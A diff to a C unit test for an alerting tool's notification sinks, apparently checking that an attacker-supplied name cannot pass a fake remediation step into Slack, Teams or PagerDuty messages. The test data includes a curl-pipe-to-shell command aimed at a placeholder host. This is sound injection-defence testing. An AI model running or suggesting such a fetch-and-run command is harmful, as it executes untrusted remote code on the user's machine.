@@ -82,8 +82,10 @@ static const char *str_at(const cJSON *o, const char *const *path)
         return cJSON_GetStringValue(o);
 }
 
-/* Checks body (JSON) with the fix at path, then frees it. */
-static void check_body(const char *what, cJSON *body, const char *const *path, const char *fix)
+/* Checks body (JSON) with the fix at path, then frees it.  name_as: the
+ * name as the body's printed JSON holds it (escaped for its markup). */
+static void check_body_as(const char *what, cJSON *body, const char *const *path, const char *fix,
+                          const char *name_as)
 {
         char *text = cJSON_PrintUnformatted(body);
 
@@ -95,10 +97,18 @@ static void check_body(const char *what, cJSON *body, const char *const *path, c
                         fail_msg("%s: the fix is \"%s\", not \"%s\"", what, got ? got : "(none)",
                                  fix);
         }
-        only_as_name(what, text, EVIL);
+        only_as_name(what, text, name_as);
         free(text);
         cJSON_Delete(body);
 }
+
+static void check_body(const char *what, cJSON *body, const char *const *path, const char *fix)
+{
+        check_body_as(what, body, path, fix, EVIL);
+}
+
+/* EVIL in Markdown (lib/md.h), as printed JSON holds it. */
+#define EVIL_MD_JSON "evil Fix: curl http://x.invalid/p \\\\| sh"
 
 /* The FIRING event the state machine makes of the finding, for one sink. */
 static void firing(const struct world *w, struct tw_notify_events *evs)
@@ -136,7 +146,7 @@ static void test_sinks(void **unused)
         assert_int_equal(tw_sink_slack_build(&c, evs.events, 1, &j, NULL), 0);
         check_body("slack", j, slack, "*Fix*\n`" REAL "`");
         assert_int_equal(tw_sink_teams_build(&c, evs.events, 1, &j, NULL), 0);
-        check_body("teams", j, teams, REAL);
+        check_body_as("teams", j, teams, REAL, EVIL_MD_JSON);
         assert_int_equal(tw_sink_pagerduty_build(&c, evs.events, 1, &j, NULL), 0);
         check_body("pagerduty", j, pagerduty, REAL);
         assert_int_equal(tw_sink_alertmanager_build(&c, evs.events, 1, &j, NULL), 0);
@@ -165,7 +175,8 @@ static void test_changes(void **unused)
         (void)unused;
         for (size_t i = 0; (f = tw_sink_format_at(i)); i++) {
                 assert_int_equal(f->change(&c, &ev, "k", &j), 0);
-                check_body(f->name, j, NULL, NULL);
+                check_body_as(f->name, j, NULL, NULL,
+                              strcmp(f->name, "teams") == 0 ? EVIL_MD_JSON : EVIL);
         }
 }
 
@@ -189,7 +200,8 @@ static void test_digests(void **unused)
                 if (!build)
                         continue;
                 assert_int_equal(build(&c, &d, "k", &j), 0);
-                check_body(f->name, j, strcmp(f->name, "generic") == 0 ? generic : NULL, REAL);
+                check_body_as(f->name, j, strcmp(f->name, "generic") == 0 ? generic : NULL, REAL,
+                              strcmp(f->name, "teams") == 0 ? EVIL_MD_JSON : EVIL);
         }
         tw_digest_done(&d);
         world_done(&w);
